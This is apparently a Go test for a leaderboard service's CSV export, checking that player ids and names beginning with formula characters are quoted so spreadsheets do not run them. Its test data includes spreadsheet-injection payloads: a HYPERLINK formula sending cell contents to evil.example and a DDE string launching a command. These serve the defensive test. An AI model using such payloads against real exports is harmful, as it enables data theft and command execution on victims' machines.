package db_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5"

	"github.com/gamebackend/leaderboard"
)

// hostileText are player ids and names a spreadsheet would run as formulas,
// one of each kind OWASP lists, and a stored quote that must stay
// distinguishable from the one the export adds.
var hostileText = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)`,
	`'=already quoted`,
}

// harmlessText are ids and names that must be exported as they are: a
// formula character that is not the first, and the CSV quoting characters.
var harmlessText = []string{`a=b`, `bob, "the" builder`, `Zoë`}

// The export writes every text cell a spreadsheet would run as a formula
// (= + - @, tab, carriage return) with a quote in front, and one that begins
// with a quote too; other cells and the numeric columns as they are. Taking
// one leading quote off player_id gives the ids that hash to the digest.
func TestExportStandings_QuotesCellsASpreadsheetWouldRun(t *testing.T) {
	store := mustOpenDB(t)
	var events []leaderboard.ScoreEvent
	for i, s := range append(append([]string{}, hostileText...), harmlessText...) {
		e := event(fmt.Sprint("e", i), s, leaderboard.ModeSet, 100-i, at(i))
		e.PlayerName = new(s)
		events = append(events, e)
	}
	// Tab and carriage return are refused in names and ids by the text
	// rules, so they reach the table only by hand here.
	events = append(events, event("tab", "tab", leaderboard.ModeSet, 10, at(20)), event("cr", "cr", leaderboard.ModeSet, 9, at(21)))
	for _, r := range mustSubmit(t, store, events...) {
		if r.Status != leaderboard.StatusApplied {
			t.Fatalf("event %s: %+v", r.EventID, r)
		}
	}
	conn, err := pgx.Connect(context.Background(), pg.URL)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close(context.Background())
	names := map[string]string{"tab": "\t=1+1", "cr": "\r=1+1"}
	for id, name := range names {
		if _, err := conn.Exec(context.Background(), `UPDATE players SET name = $2 WHERE id = $1`, id, name); err != nil {
			t.Fatal(err)
		}
	}
	info := mustClose(t, store, november)

	var out bytes.Buffer
	if err := store.ExportStandings(context.Background(), leaderboard.MainBoard, november.String(), leaderboard.MonthExport, &out); err != nil {
		t.Fatal(err)
	}
	// The cell with quotes and a comma is one CSV field, its quotes doubled.
	if want := `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`; strings.Count(out.String(), want) != 2 {
		t.Errorf("export does not hold %s as its id and name:\n%s", want, out.String())
	}
	records, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatalf("%v in\n%s", err, out.String())
	}
	if len(records) != len(events)+1 {
		t.Fatalf("%d lines for %d players", len(records), len(events))
	}
	exported := func(raw string) string {
		if strings.ContainsAny(raw[:1], "=+-@\t\r'") {
			return "'" + raw
		}
		return raw
	}
	h := sha256.New()
	for i, r := range records[1:] {
		id, name, score := events[i].PlayerID, events[i].PlayerID, fmt.Sprint(events[i].Value)
		if n, ok := names[id]; ok {
			name = n
		}
		if r[0] != fmt.Sprint(i+1) || r[1] != exported(id) || r[2] != exported(name) || r[3] != score {
			t.Errorf("line %d: %q, want id %q and name %q with score %s", i+1, r, exported(id), exported(name), score)
		}
		fmt.Fprintf(h, "%s,%s,%s\n", r[0], strings.TrimPrefix(r[1], "'"), r[3])
	}
	if got := hex.EncodeToString(h.Sum(nil)); got != info.Digest {
		t.Errorf("export without the added quotes hashes to %s, digest %s", got, info.Digest)
	}
}
